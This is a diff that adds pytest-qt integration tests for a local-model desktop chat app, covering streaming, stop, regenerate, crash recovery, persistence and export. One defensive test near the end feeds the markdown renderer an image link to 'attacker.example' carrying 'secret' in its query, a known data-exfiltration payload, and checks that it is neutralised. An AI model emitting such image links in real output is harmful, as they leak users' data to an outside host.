@@ -1,0 +1,262 @@
+"""The desktop app, driven offscreen with the real engine, the real model and real SQLite."""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from PySide6.QtCore import QTimer
+from pytestqt.qtbot import QtBot
+
+from app import paths
+from app.engine.client import Engine
+from app.engine.types import LoadSettings, SamplingParams
+from app.store.chats import ChatStore
+from app.ui.chatview import SafeTextBrowser
+from app.ui.controller import ChatController
+from app.ui.markdown import MarkdownRenderer
+from app.ui.window import MainWindow
+
+WAIT_MS = 60_000
+
+
+def make_window(qtbot: QtBot, model: Path | None) -> MainWindow:
+    store = ChatStore(paths.database_path())
+    if model is not None:
+        store.set_setting("recent_models", [str(model)])
+        store.set_setting("default_sampling", SamplingParams(temperature=0.0, max_tokens=48).to_dict())
+    controller = ChatController(store, Engine(), LoadSettings(n_ctx=2048))
+    window = MainWindow(controller)
+    qtbot.addWidget(window)
+    window.show()
+    return window
+
+
+@pytest.fixture
+def window(qtbot: QtBot, test_model: Path) -> Iterator[MainWindow]:
+    w = make_window(qtbot, test_model)
+    yield w
+    w.controller.shutdown()
+    w.store.close()
+
+
+def send_and_wait(qtbot: QtBot, w: MainWindow, text: str) -> list[object]:
+    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
+        w.composer.setPlainText(text)
+        w.send_button.click()
+    return list(blocker.args or [])
+
+
+def test_first_run_shows_welcome(qtbot: QtBot) -> None:
+    w = make_window(qtbot, None)
+    try:
+        assert w.pages.currentWidget() is w.welcome
+        assert "GGUF" in w.welcome_text.text()
+    finally:
+        w.controller.shutdown()
+
+
+def test_send_streams_answer_into_view_and_sqlite(qtbot: QtBot, window: MainWindow) -> None:
+    w = window
+    assert w.pages.currentWidget() is w.chat_page  # a model is known: straight to a chat
+    chunks: list[str] = []
+    w.controller.streamText.connect(lambda _c, _m, text: chunks.append(text))
+    _conv_id, message_id, status, error, stats = send_and_wait(qtbot, w, "What is the capital of France?")
+    assert status == "complete", error
+    saved = w.store.message(message_id)  # type: ignore[arg-type]
+    assert "Paris" in saved.content
+    assert saved.status == "complete"
+    assert "".join(chunks) == saved.content
+    assert stats["completion_tokens"] > 0
+    widget = w.chat_view.widgets[-1]
+    qtbot.waitUntil(lambda: "Paris" in widget.body.toPlainText(), timeout=5000)
+    assert w.conversations.conversation_at(0).title == "What is the capital of France?"  # type: ignore[union-attr]
+    assert "tok/s" in w.speed_status.text()
+    assert w.ctx_meter.value() >= 1
+
+
+def test_stop_keeps_partial_answer(qtbot: QtBot, window: MainWindow) -> None:
+    w = window
+    conv = w.store.conversation(w.current_conv)  # type: ignore[arg-type]
+    w.store.update_conversation(conv.id, sampling=SamplingParams(temperature=0.0, max_tokens=2000))
+    w.select_conversation(conv.id)
+    w.settings_panel.max_tokens.setValue(2000)
+    first = []
+    w.controller.streamText.connect(lambda *_: first.append(1) or (len(first) == 1 and w.stop_button.click()))
+    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
+        w.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12,")
+        w.send_button.click()
+    _conv, message_id, status, _error, stats = blocker.args  # type: ignore[misc]
+    assert status == "interrupted"
+    assert stats["finish_reason"] == "cancelled"
+    saved = w.store.message(message_id)
+    assert saved.status == "interrupted"
+    assert saved.content  # what was streamed before Stop is kept
+    assert stats["completion_tokens"] < 2000
+    assert w.send_button.isVisible()
+    assert not w.stop_button.isVisible()
+
+
+def test_regenerate_and_edit(qtbot: QtBot, window: MainWindow) -> None:
+    w = window
+    send_and_wait(qtbot, w, "What is the capital of France?")
+    first = w.store.messages(w.current_conv)  # type: ignore[arg-type]
+    assert [m.role for m in first] == ["user", "assistant"]
+    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS):
+        w.chat_view.widgets[-1].regen_button.click()
+    second = w.store.messages(w.current_conv)  # type: ignore[arg-type]
+    assert [m.role for m in second] == ["user", "assistant"]
+    assert second[1].id != first[1].id
+    assert "Paris" in second[1].content  # greedy: same answer again
+    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS):
+        w.controller.edit_and_resend(second[0].id, "What is the capital of Italy?")
+    third = w.store.messages(w.current_conv)  # type: ignore[arg-type]
+    assert next(m.content for m in third) == "What is the capital of Italy?"
+    assert len(third) == 2
+    assert third[1].status == "complete"
+    assert len(w.chat_view.widgets) == 2
+
+
+def test_switch_conversation_while_generating(qtbot: QtBot, window: MainWindow) -> None:
+    w = window
+    a = w.current_conv
+    w.store.update_conversation(a, sampling=SamplingParams(temperature=0.0, max_tokens=200))  # type: ignore[arg-type]
+    w.select_conversation(a)  # type: ignore[arg-type]
+    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
+        w.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8,")
+        w.send_button.click()
+        qtbot.waitSignal(w.controller.streamText, timeout=WAIT_MS).wait()
+        w.new_chat()
+        b = w.current_conv
+        assert b != a
+        assert w.messages.rowCount() == 0
+    assert blocker.args[0] == a  # type: ignore[index]
+    assert w.messages.rowCount() == 0  # B's view was not touched by A's stream
+    w.select_conversation(a)  # type: ignore[arg-type]
+    msgs = w.store.messages(a)  # type: ignore[arg-type]
+    assert msgs[-1].status == "complete"
+    assert msgs[-1].content
+    assert w.chat_view.widgets[-1].text == msgs[-1].content
+
+
+def test_engine_killed_mid_answer_shows_error_and_keeps_text(qtbot: QtBot, window: MainWindow) -> None:
+    w = window
+    w.store.update_conversation(w.current_conv, sampling=SamplingParams(temperature=0.0, max_tokens=1500))  # type: ignore[arg-type]
+    w.select_conversation(w.current_conv)  # type: ignore[arg-type]
+    seen = []
+
+    def on_text(*_: object) -> None:
+        seen.append(1)
+        if len(seen) == 3:
+            w.controller.engine.kill()
+
+    w.controller.streamText.connect(on_text)
+    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
+        w.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8,")
+        w.send_button.click()
+    _c, message_id, status, error, _s = blocker.args  # type: ignore[misc]
+    assert status == "error"
+    assert "crashed" in error
+    assert "SIGKILL" in error
+    saved = w.store.message(message_id)
+    assert saved.content
+    assert saved.status == "error"
+    widget = w.chat_view.widgets[-1]
+    assert widget.error.isVisibleTo(w)
+    assert "crashed" in widget.error.text()
+    # the user retries: a fresh engine answers
+    w.controller.streamText.disconnect(on_text)
+    w.store.update_conversation(w.current_conv, sampling=SamplingParams(temperature=0.0, max_tokens=32))  # type: ignore[arg-type]
+    w.select_conversation(w.current_conv)  # type: ignore[arg-type]
+    _c, _m, status, error, _s = send_and_wait(qtbot, w, "What is the capital of France?")
+    assert status == "complete", error
+
+
+def test_conversation_survives_restart(qtbot: QtBot, test_model: Path) -> None:
+    w = make_window(qtbot, test_model)
+    send_and_wait(qtbot, w, "What is the capital of France?")
+    conv_id = w.current_conv
+    w.close()  # saves state, shuts the engine down
+    w.store.close()
+    w2 = make_window(qtbot, test_model)
+    try:
+        assert w2.current_conv == conv_id
+        msgs = w2.store.messages(conv_id)  # type: ignore[arg-type]
+        assert [m.role for m in msgs] == ["user", "assistant"]
+        assert w2.messages.rowCount() == 2
+        _c, _m, status, _e, stats = send_and_wait(qtbot, w2, "And the capital of Spain?")
+        assert status == "complete"
+        assert stats["prompt_tokens"] > stats["prompt_evaluated"] or stats["prompt_reused"] == 0
+        assert len(w2.store.messages(conv_id)) == 4  # type: ignore[arg-type]
+    finally:
+        w2.controller.shutdown()
+
+
+def test_export_import_round_trip(qtbot: QtBot, window: MainWindow, tmp_path: Path) -> None:
+    w = window
+    send_and_wait(qtbot, w, "What is the capital of France?")
+    original = w.current_conv
+    w.write_export(original, "json", tmp_path / "chat.json")  # type: ignore[arg-type]
+    w.write_export(original, "md", tmp_path / "chat.md")  # type: ignore[arg-type]
+    assert "Paris" in (tmp_path / "chat.md").read_text()
+    assert json.loads((tmp_path / "chat.json").read_text())["format"] == "paddock-conversation"
+    w.read_import(tmp_path / "chat.json")
+    assert w.current_conv != original
+    assert [(m.role, m.content) for m in w.store.messages(w.current_conv)] == [  # type: ignore[arg-type]
+        (m.role, m.content) for m in w.store.messages(original)  # type: ignore[arg-type]
+    ]
+
+
+def test_item_models_pass_qtmodeltester(qtbot: QtBot, window: MainWindow, qtmodeltester: object) -> None:
+    w = window
+    send_and_wait(qtbot, w, "What is the capital of France?")
+    qtmodeltester.check(w.conversations)  # type: ignore[attr-defined]
+    qtmodeltester.check(w.messages)  # type: ignore[attr-defined]
+
+
+def test_event_loop_stays_responsive_while_streaming(qtbot: QtBot, window: MainWindow) -> None:
+    """A 10 ms heartbeat timer measures how late the event loop runs during a long answer."""
+    w = window
+    w.store.update_conversation(w.current_conv, sampling=SamplingParams(temperature=0.0, max_tokens=400))  # type: ignore[arg-type]
+    w.select_conversation(w.current_conv)  # type: ignore[arg-type]
+    lateness: list[float] = []
+    last = [time.perf_counter()]
+
+    def beat() -> None:
+        now = time.perf_counter()
+        lateness.append(now - last[0] - 0.010)
+        last[0] = now
+
+    timer = QTimer()
+    timer.setInterval(10)
+    timer.timeout.connect(beat)
+    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
+        w.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8,")
+        w.send_button.click()
+        timer.start()
+    timer.stop()
+    stats = blocker.args[4]  # type: ignore[index]
+    assert stats["completion_tokens"] > 50
+    assert len(lateness) > 20
+    worst = max(lateness)
+    print(f"heartbeat: {len(lateness)} beats, worst lateness {worst * 1000:.1f} ms")
+    assert worst < 0.5  # generous bound; the benchmark reports the real figures
+
+
+def test_rendered_answers_never_load_remote_content() -> None:
+    html = MarkdownRenderer().render(
+        "Summary. ![x](http://attacker.example/?q=secret) <img src='http://attacker.example/y.png'>"
+    ).html
+    assert "<img" not in html
+    assert "attacker.example/?q=secret" in html  # shown as a link the user may choose to click
+    browser = SafeTextBrowser()
+    assert browser.loadResource(2, "http://attacker.example/y.png") is None
+
+
+def test_code_blocks_get_copy_links() -> None:
+    rendered = MarkdownRenderer().render("Code:\n\n```python\nprint('hi')\n```\n")
+    assert rendered.code_blocks == ("print('hi')",)
+    assert 'href="paddock-copy:0"' in rendered.html
